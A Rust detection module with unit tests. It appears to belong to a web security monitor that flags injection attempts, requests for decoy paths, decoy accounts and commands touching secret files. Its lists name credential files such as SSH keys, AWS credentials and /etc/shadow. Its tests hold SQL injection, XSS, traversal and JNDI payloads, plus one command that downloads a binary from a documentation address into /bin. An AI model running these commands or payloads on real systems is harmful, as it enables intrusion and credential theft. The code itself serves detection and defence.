//! Signs of intent in what clients send: injections, and decoys touched.

use crate::web::text::{AttackKind, Marks};

/// Weight of words from which a text is an injection: one word that nothing but an injection has, or two likely ones.
const INJECTION_WEIGHT: u32 = 3;
/// Names of shell commands and system files are names of pages as well: one alone is not enough.
const NAMES_WEIGHT: u32 = 4;

/// Whether a decoded text carries an injection of any language.
pub(crate) fn injected(text: &str) -> bool {
    let marks = Marks::of(text);
    let least = match marks.kind {
        None | Some(AttackKind::Forgery | AttackKind::Serialized) => u32::MAX,
        Some(AttackKind::Command | AttackKind::Traversal) => NAMES_WEIGHT,
        Some(AttackKind::Sql | AttackKind::Script | AttackKind::Template) => INJECTION_WEIGHT,
    };
    marks.sqli || marks.xss || marks.weight >= least
}

/// Whether a command carries an injection into a database. Shell words are what commands are made of.
pub(crate) fn sql_in(command: &str) -> bool {
    let marks = Marks::of(command);
    marks.kind == Some(AttackKind::Sql) && marks.weight >= INJECTION_WEIGHT
}

/// Parts of paths that no honest client of any site asks for: what tools leave behind by mistake, and what is laid out
/// for intruders to find.
const DECOYS: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.aws/",
    "/.ssh/",
    "/.docker/",
    "/.htpasswd",
    "/.bash_history",
    "id_rsa",
    "/admin/backup",
    "/backup.sql",
    "/dump.sql",
    "/db.sql",
    "/database.sql",
    "wp-config.php.",
    "wp-config.php~",
    "web.config.bak",
    "honeypot",
    "honeytoken",
];

/// Parts of paths that are decoys where the site has no such thing, which is what the answer 404 says.
const DECOYS_WHERE_ABSENT: &[&str] = &[
    "/wp-admin",
    "/wp-login.php",
    "/wp-config",
    "/xmlrpc.php",
    "/phpmyadmin",
    "/pma/",
    "/myadmin",
    "/adminer",
    "/administrator",
    "/manager/html",
    "/actuator/env",
    "/server-status",
    "/phpinfo",
    "/vendor/phpunit",
    "/cgi-bin/",
    "/setup.php",
    "/solr/admin",
    "/boaform",
    "/hnap1",
    "/backup",
];

/// Whether a decoded path, answered with this status, is a decoy.
pub(crate) fn decoy_path(path: &str, status: Option<u16>) -> bool {
    let path = path.to_ascii_lowercase();
    let any = |words: &[&str]| words.iter().any(|word| path.contains(word));
    any(DECOYS) || (matches!(status, Some(404 | 410)) && any(DECOYS_WHERE_ABSENT))
}

/// Accounts that exist to be tried by intruders carry one of these in their name.
const DECOY_ACCOUNTS: &[&str] = &["honeypot", "honeytoken", "decoy", "canary"];

/// Whether an account is a decoy.
pub(crate) fn decoy_account(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    DECOY_ACCOUNTS.iter().any(|word| name.contains(word))
}

/// What commands touch when they look for secrets.
const DECOY_FILES: &[&str] =
    &["id_rsa", "id_ed25519", ".aws/credentials", "/etc/shadow", "/.env", "/.git/config", "wallet.dat", "honeytoken", "honeypot"];

/// Whether a command touches a decoy.
pub(crate) fn decoy_command(command: &str) -> bool {
    DECOY_FILES.iter().any(|file| command.contains(file))
}

#[cfg(test)]
mod tests {
    use super::{decoy_account, decoy_command, decoy_path, injected, sql_in};

    #[test]
    fn injections_are_told_from_texts() {
        for text in [
            "1' OR '1'='1",
            "1 UNION SELECT password FROM users",
            "<script>alert(1)</script>",
            "../../../etc/passwd",
            "; cat /etc/hosts",
            "${jndi:x}",
        ] {
            assert!(injected(text), "{text}");
        }
        for text in ["", "ann", "O'Brien", "12 Mill Lane", "2026-01-31T09:30:00Z", "/blog/select-a-lamp", "/misc/x.netstat.Jan05", "a+b=c"]
        {
            assert!(!injected(text), "{text}");
        }
        assert!(sql_in("mysql -e \"select * from users\""));
        assert!(!sql_in("cat /etc/passwd; wget http://192.0.2.1/x -O /bin/x"));
    }

    #[test]
    fn decoys_are_told_from_paths() {
        for (path, status, expected) in [
            ("/.env", None, true),
            ("/app/.ENV.local", Some(200), true),
            ("/.git/config", Some(404), true),
            ("/admin/backup/2026.zip", None, true),
            ("/wp-admin/setup.php", Some(404), true),
            ("/wp-admin/setup.php", Some(200), false),
            ("/wp-admin/", None, false),
            ("/.well-known/acme-challenge/x", Some(404), false),
            ("/environment", Some(404), false),
            ("/", Some(200), false),
        ] {
            assert_eq!(decoy_path(path, status), expected, "{path} {status:?}");
        }
        assert!(decoy_account("svc-Honeytoken-1") && !decoy_account("root"));
        assert!(decoy_command("cat ~/.ssh/id_rsa") && !decoy_command("uname -a"));
    }
}
